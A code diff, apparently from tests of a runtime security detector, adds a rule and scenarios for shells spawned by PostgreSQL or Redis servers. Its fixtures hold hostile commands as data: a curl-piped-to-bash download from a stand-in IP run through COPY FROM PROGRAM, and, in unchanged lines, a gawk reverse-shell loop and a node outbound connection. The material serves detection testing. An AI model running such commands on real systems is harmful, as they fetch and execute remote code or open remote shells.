@@ -61,6 +61,7 @@ func scenarios() []scenario {
 	const (
 		revShell    = "Reverse shell with network standard streams"
 		outToSocket = "Command output sent to a network connection"
+		dbShell     = "Shell started by a database server"
 		dupShell    = "Reverse shell by duplicating a socket onto standard streams"
 		relay       = "Socket relay started a shell"
 		fedShell    = "Shell fed by a program that connected out"
@@ -151,6 +152,17 @@ func scenarios() []scenario {
 
 	// Reverse shells.
 	renamedBash := proc("kworker", "/tmp/.cache/kworker", "kworker", "-i")
+	pgBackend := proc("postgres", "/usr/lib/postgresql/16/bin/postgres", "/usr/lib/postgresql/16/bin/postgres", "-D", "/var/lib/postgresql/16/main")
+	add(
+		scenario{"COPY ... FROM PROGRAM: a PostgreSQL backend runs sh -c", dbShell, true,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "curl -s http://203.0.113.9/k.sh | bash"), pgBackend), inCtr)), nil},
+		scenario{"redis-server starting a shell", dbShell, true,
+			evs(execEv(childOf(sh("-c", "id"), proc("redis-server", "/usr/bin/redis-server", "redis-server", "*:6379")))), nil},
+		scenario{"PostgreSQL's archive_command copying a WAL segment is not", dbShell, false,
+			evs(execEv(childOf(proc("sh", "/usr/bin/dash", "sh", "-c", "test ! -f /archive/000000010000000000000002 && cp pg_wal/000000010000000000000002 /archive/000000010000000000000002"), pgBackend))), nil},
+		scenario{"a shell started by the application next to the database is not", dbShell, false,
+			evs(execEv(childOf(sh("-c", "id"), proc("node", "/usr/bin/node", "node", "server.js")))), nil},
+	)
 	gawkLoop := proc("gawk", "/usr/bin/gawk", "gawk", `BEGIN {s = "/inet/tcp/0/10.0.0.9/4242"; while (1) {s |& getline c; while ((c |& getline l) > 0) print l |& s; close(c)}}`)
 	gawkFile := proc("gawk", "/usr/bin/gawk", "gawk", "-f", "/opt/report/collect.awk")
 	nodeEval := proc("node", "/usr/bin/node", "node", "--eval", `require("net").connect(443,"10.0.0.9")`)
@@ -1145,6 +1157,7 @@ func TestEveryRuleHasScenarios(t *testing.T) {
 var wantType = map[string]string{
 	"Reverse shell with network standard streams":                 "Execution:Runtime/ReverseShell",
 	"Command output sent to a network connection":                 "Execution:Runtime/ReverseShell",
+	"Shell started by a database server":                          "Execution:Runtime/DatabaseSpawnedShell",
 	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
 	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
 	"Interactive shell on pipes":                                  "Execution:Runtime/ReverseShell",
